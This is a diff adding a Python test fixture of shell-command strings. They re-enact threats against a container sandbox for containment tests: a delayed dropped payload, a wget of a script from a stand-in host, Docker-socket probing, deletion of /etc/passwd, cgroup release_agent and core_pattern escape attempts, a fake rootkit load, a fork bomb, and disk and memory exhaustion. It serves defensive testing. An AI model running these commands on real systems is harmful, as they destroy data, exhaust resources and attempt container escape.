@@ -1,0 +1,48 @@
+"""Harmless busybox re-enactments, shared by the containment tests and the corpus capture."""
+
+from __future__ import annotations
+
+# Sleeps ten minutes, then drops a script and runs it (THREATS.md #4, delayed payload).
+DELAYED_PAYLOAD = (
+    "sleep 600; printf '#!/bin/sh\\necho payload-ran\\n' > /tmp/payload.sh; "
+    "chmod 755 /tmp/payload.sh; /tmp/payload.sh"
+)
+
+PROCESS_TREE = (
+    "busybox true; sh -c 'exit 4'; /nonexistent/tool --x; "
+    "yes > /dev/null & kill -9 $!; "
+    "(echo sub; busybox true) & wait; "
+    "printf 'echo noshebang\\n' > /tmp/ns; chmod +x /tmp/ns; /tmp/ns; exit 3"
+)
+
+FILE_OPERATIONS = (
+    "cd /tmp && mkdir -p d/e && echo a > d/e/f && mv d/e/f d/e/g && ln -s /etc/passwd lnk && "
+    "ln d/e/g hard && chmod 600 d/e/g && rm d/e/g && echo x >> /etc/motd && rm /etc/passwd && "
+    "echo y > ../var/log/new.log; mkdir /tmp"
+)
+
+NETWORK = (
+    "nc -l -p 8080 & sleep 1; "
+    "wget -q -O /tmp/p http://192.0.2.10:3333/p.sh; "
+    "echo hi | nc 127.0.0.1 8080; "
+    "nc local:/var/run/docker.sock </dev/null; wait"
+)
+
+# Each escape or kernel attempt must fail and be reported (THREATS.md #13, #18).
+PRIVILEGED = (
+    "mkdir -p /mnt/x; mount -t ext4 /dev/vda /mnt/x; mount -t cgroup -o memory cgroup /mnt/x; "
+    "echo not-a-module > /tmp/rootkit.ko; insmod /tmp/rootkit.ko; "
+    "echo b > /proc/sysrq-trigger; "
+    "echo /tmp/x > /sys/fs/cgroup/release_agent; "
+    "echo '|/tmp/x' > /proc/sys/kernel/core_pattern; "
+    "busybox unshare -U true 2>/dev/null; "
+    "exit 0"
+)
+
+FORK_BOMB = "bomb() { bomb | bomb & }; bomb; sleep 3; echo survived"
+MEMORY_HOG = "x=$(yes 0123456789abcdef | head -c 1000000000); echo done"  # a shell variable grows
+DISK_FILL = "dd if=/dev/zero of=/tmp/fill bs=1M count=4096; echo dd-done; ls -la /tmp/fill"
+CPU_SPIN = "yes > /dev/null & yes > /dev/null & wait"
+# Ptrace a host pid: pid 1 of the host is not visible inside the pid namespace.
+PTRACE_HOST = "busybox strace -p 1 2>/dev/null || true"
+QUIET_SERVER = "nc -l -p 8080"
